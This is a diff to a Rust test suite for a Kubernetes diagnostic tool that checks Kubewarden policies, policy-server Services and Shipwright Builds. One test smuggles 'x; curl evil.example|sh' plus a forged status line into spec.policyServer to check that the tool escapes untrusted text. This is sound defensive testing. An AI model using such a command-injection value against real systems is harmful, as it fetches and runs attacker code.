@@ -30,6 +30,11 @@ pub(super) const WEBHOOK: &str =
 const SERVERS: &str = "/api/v1/namespaces/kubewarden/pods";
 const REVIEW: &str = "/apis/authorization.k8s.io/v1/subjectaccessreviews";
 
+pub(super) const SERVICE: &str = "/api/v1/namespaces/kubewarden/services/policy-server-default";
+/// A certificate in PEM, as far as anybody looks, in base64.
+pub(super) const AUTHORITY: &str =
+    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1BTUNBUUU9Ci0tLS0tRU5EIENFUlRJRklDQVRFLS0tLS0K";
+
 /// The name of the kit's registry.
 pub(super) const KIT: &str = "registry.local-registry.svc.cluster.local:5000";
 
@@ -80,13 +85,17 @@ pub(super) fn admission(path: &str) -> Option<Value> {
 fn webhook(name: &str) -> Value {
     let manifest = if name.contains("workloads") { "deploy/workloads/component" } else { "deploy/policy" };
     let rules = &read(&format!("{manifest}/policy.yaml"))["spec"]["rules"];
-    let selector = json!({"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["kubewarden"]}]});
+    let selector = if name.starts_with("namespaced-team-") {
+        json!({"matchLabels": {"kubernetes.io/metadata.name": "team"}})
+    } else {
+        json!({"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["kubewarden"]}]})
+    };
     let service =
         json!({"namespace": "kubewarden", "name": "policy-server-default", "path": format!("/validate/{name}")});
     json!({
         "metadata": {"name": name},
         "webhooks": [{
-            "clientConfig": {"service": service, "caBundle": "Y2E="}, "failurePolicy": "Fail", "rules": rules,
+            "clientConfig": {"service": service, "caBundle": AUTHORITY}, "failurePolicy": "Fail", "rules": rules,
             "namespaceSelector": selector, "objectSelector": {}, "matchConditions": [],
         }],
     })
@@ -135,6 +144,10 @@ pub(super) fn cluster() -> BTreeMap<&'static str, Value> {
         (RUNS, crd(run)),
         (REVIEW, json!({"spec": {}, "status": {"allowed": true}})),
         (SERVERS, list(&[running("policy-server-1", "node-1")])),
+        (
+            SERVICE,
+            json!({"metadata": {"name": "policy-server-default", "namespace": "kubewarden"}, "spec": {"ports": [{"port": 443}, {"port": 8080}]}}),
+        ),
     ])
 }
 
@@ -279,7 +292,7 @@ async fn a_policy_that_nobody_is_asked_about() {
     .await;
     check(
         |objects| drop(objects.insert(SERVERS, list(&[]))),
-        "✗ policy local server: 0 of 0 ready in kubewarden, by the labels kubewarden/policy-server=default; start the policy server: until then, what may be local is refused",
+        "✗ policy local server: 0 of 0 ready in kubewarden, by the labels kubewarden/policy-server=default; start the policy server, or name its namespace by --kubewarden-namespace: until it runs, what may be local is refused",
     )
     .await;
     check(
@@ -459,6 +472,81 @@ async fn a_version_of_a_crd_that_is_not_known() {
 }
 
 #[tokio::test]
+async fn a_policy_server_that_cannot_be_called() {
+    let check = async |service: Value, expected: &str| {
+        let change = |objects: &mut BTreeMap<&'static str, Value>| drop(objects.insert(SERVICE, service));
+        assert_eq!(trouble(change, Location::InCluster, plain_http()).await, [expected]);
+    };
+    check(
+        Value::Null,
+        "✗ policy local service: there is no Service kubewarden/policy-server-default, so what the policy is asked about is refused; see that Kubewarden's controller runs: it makes the Service of a policy server again",
+    )
+    .await;
+    check(
+        json!({"metadata": {"name": "policy-server-default", "namespace": "kubewarden"}, "spec": {"ports": [{"port": 8443}]}}),
+        "✗ policy local service: the Service kubewarden/policy-server-default has no port 443, which the webhook calls, so what the policy is asked about is refused; see that Kubewarden's controller runs: it makes the Service of a policy server again",
+    )
+    .await;
+    check(
+        json!(403),
+        "! policy local service: Service kubewarden/policy-server-default: get is forbidden: no; grant `get` on services/policy-server-default in kubewarden",
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn a_policy_server_that_does_not_exist_or_cannot() {
+    assert_eq!(
+        trouble(|objects| drop(objects.remove(SERVER)), Location::InCluster, plain_http()).await,
+        ["✗ policy local rights: PolicyServer default: not found; create it, or correct spec.policyServer"]
+    );
+    let lines = trouble_with(|policy| {
+        policy["spec"]["policyServer"] = json!("x; curl evil.example|sh\n✓ safeguards: all is well");
+        policy["status"]["conditions"] = json!([]);
+    })
+    .await;
+    let named = r"`x; curl evil.example|sh\n✓ safeguards: all is well`";
+    assert_eq!(
+        lines,
+        [
+            "✗ policy local: it has no condition PolicyActive, it has no condition PolicyUniquelyReachable; see what the Kubewarden controller says of it: kubectl describe clusteradmissionpolicy local".to_owned(),
+            format!("✗ policy local webhook: the policy's spec.policyServer is {named}, which names none; see that Kubewarden's controller runs: it corrects what others change"),
+            "! policy local settings: they say what the cluster declares, but it is not known whether they are served".to_owned(),
+            format!("✗ policy local rights: spec.policyServer is {named}, which names none; set spec.policyServer to the name of a PolicyServer"),
+        ]
+    );
+}
+
+#[tokio::test]
+async fn what_others_wrote_forges_no_line_and_is_short() {
+    let lines = trouble_with(|policy| {
+        policy["status"]["conditions"][0] =
+            json!({"type": "PolicyActive", "status": "False", "message": "a\n✓ b\u{202e}c"});
+        policy["spec"]["matchConditions"] = json!([{"name": "x\u{2028}✓ y\n✓ z", "expression": "false"}]);
+        policy["spec"]["settings"] = json!({"host": "old:5000", "insecure": true, "other": "long ".repeat(1000)});
+    })
+    .await;
+    assert!(lines.iter().all(|line| !line.contains(['\n', '\u{2028}', '\u{202e}'])), "{lines:#?}");
+    assert!(lines.iter().all(|line| line.len() < 1000), "{lines:#?}");
+    assert!(lines.iter().any(|line| line.contains(r"x\u{2028}✓ y\n✓ z differs")), "{lines:#?}");
+}
+
+#[tokio::test]
+async fn a_policy_that_mutates_in_one_namespace_makes_no_guard_of_one_for_all() {
+    let mut objects = cluster();
+    let mut policy = objects[POLICY].clone();
+    policy["spec"]["settings"]["lookupBuilds"] = json!(false);
+    objects.insert("/apis/policies.kubewarden.io/v1/namespaces/team/admissionpolicies/local", policy);
+    objects.get_mut(POLICY).unwrap()["spec"]["mutating"] = json!(false);
+    let policies = ["local", "team/local"].map(|name| name.parse().unwrap()).to_vec();
+    let task = Task { policies, ..Task::default() };
+    let lines = run_task(objects, &task, Location::InCluster, plain_http()).await;
+    let expected =
+        "✗ policy local mutating: spec.mutating is not true; set spec.mutating: true, or nothing is injected";
+    assert!(lines.iter().any(|line| line == expected), "{lines:#?}");
+}
+
+#[tokio::test]
 async fn policies_that_do_not_work() {
     assert_eq!(
         trouble(|objects| drop(objects.remove(POLICY)), Location::InCluster, plain_http()).await.last().unwrap(),
@@ -515,7 +603,7 @@ async fn a_namespaced_policy_may_not_look_builds_up() {
             "✓ policy team/local rights: it does not look Builds up (lookupBuilds: false)",
             "✓ guard local-registry-guard: it is bound, and denies what the policy does not see",
             "✓ guard local-registry-guard-inherited: it is bound, and denies what the policy does not see",
-            "✗ Builds: 1 have a local output without a registry, which goes to Docker Hub while no policy looks Builds up: team/a; have them resolved, by: kubectl annotate builds --all --all-namespaces --overwrite resolved-at=\"$(date +%s)\"",
+            "✗ Builds: 1 have a local output without a registry, which goes to Docker Hub while no policy looks Builds up: team/a; once the policy is asked, have them resolved, by: kubectl annotate builds --all --all-namespaces --overwrite resolved-at=\"$(date +%s)\"",
             "✓ safeguards: the policy is asked, the guard refuses what it does not see, and the CRDs keep the field",
         ]
     );
@@ -585,21 +673,35 @@ async fn policies_that_do_nothing() {
 #[tokio::test]
 async fn selectors_that_leave_something_out() {
     let namespaces = |labels: Value| {
-        trouble_with(move |policy| policy["spec"]["namespaceSelector"] = json!({"matchLabels": labels}))
+        trouble_with(move |policy| {
+            let expressions: Vec<Value> = labels
+                .as_object()
+                .unwrap()
+                .iter()
+                .map(|(key, value)| json!({"key": key, "operator": "In", "values": [value]}))
+                .collect();
+            policy["spec"]["namespaceSelector"] = json!({"matchExpressions": expressions});
+        })
     };
     assert_eq!(
         namespaces(json!({"nope": "nope"})).await,
         [
-            "✗ policy local namespaceSelector: it sees only namespaces with nope=nope, and there is no such namespace; remove spec.namespaceSelector, or nothing is resolved"
+            "✗ policy local namespaceSelector: it sees only namespaces with nope in (nope), and there is no such namespace; remove spec.namespaceSelector, or nothing is resolved"
         ]
     );
     assert_eq!(
         namespaces(json!({"env": "prod"})).await,
         [
-            "! policy local namespaceSelector: it sees only namespaces with env=prod; no image is resolved in default; remove spec.namespaceSelector, unless that is meant"
+            "! policy local namespaceSelector: it sees only namespaces with env in (prod); no image is resolved in default; remove spec.namespaceSelector, unless that is meant"
         ]
     );
     assert_eq!(namespaces(json!({})).await, Vec::<String>::new());
+    assert_eq!(
+        trouble_with(|policy| policy["spec"]["namespaceSelector"] = json!({"matchLabels": {"env": "prod"}})).await,
+        [
+            "! policy local namespaceSelector: its matchLabels select nothing: Kubewarden drops them from a ClusterAdmissionPolicy, so it is also asked in namespaces without env=prod; write them as matchExpressions, or remove them"
+        ]
+    );
     let wide = json!({"matchExpressions": [{"key": "env", "operator": "NotIn", "values": ["test"]}]});
     assert_eq!(
         trouble_with(|policy| policy["spec"]["namespaceSelector"] = wide).await,
@@ -635,6 +737,7 @@ async fn selectors_that_leave_something_out() {
     assert_eq!(
         objects(json!({"a": "b"}), json!(403)).await,
         [
+            "! policy local namespaces: it is not known whether Builds are where it is not asked: builds.shipwright.io: list is forbidden: no; grant `list` on builds.shipwright.io",
             "! policy local objectSelector: it sees only objects with a=b; no other image is resolved; remove spec.objectSelector, unless that is meant",
             "! Builds: builds.shipwright.io: list is forbidden: no; grant `list` on builds.shipwright.io",
         ]
@@ -677,7 +780,7 @@ async fn stored_builds_that_lost_their_field_or_go_to_docker_hub() {
         marked("denied", json!({"image": "team/app:v1", "local": false}), output("true")),
     ];
     let expected = [
-        "! Builds: 2 have local: true and no annotation that records it, so a client that drops the field makes them not local: team/unrecorded, team/unrecorded-here; run: kubectl annotate builds --all --all-namespaces --overwrite recorded-at=\"$(date +%s)\"",
+        "! Builds: 2 have local: true and no annotation that records it, so a client that drops the field makes them not local: team/unrecorded, team/unrecorded-here; once the policy is asked, run: kubectl annotate builds --all --all-namespaces --overwrite recorded-at=\"$(date +%s)\"",
         "! Builds: 1 have local: true for an image at another registry than the policy's, which it does not record: team/unrecorded-elsewhere; re-apply them, with an image that names no registry",
         "! Builds: 2 have no field local, and are local by their record alone: team/lost, team/source; those written in v1alpha1 always look so; re-apply the others, and see that the CRDs have the field",
         "! Builds: 2 have an output that is not local and names no registry, so it goes to Docker Hub: team/hub, team/denied; set local: true, or write the registry that is meant, docker.io included",
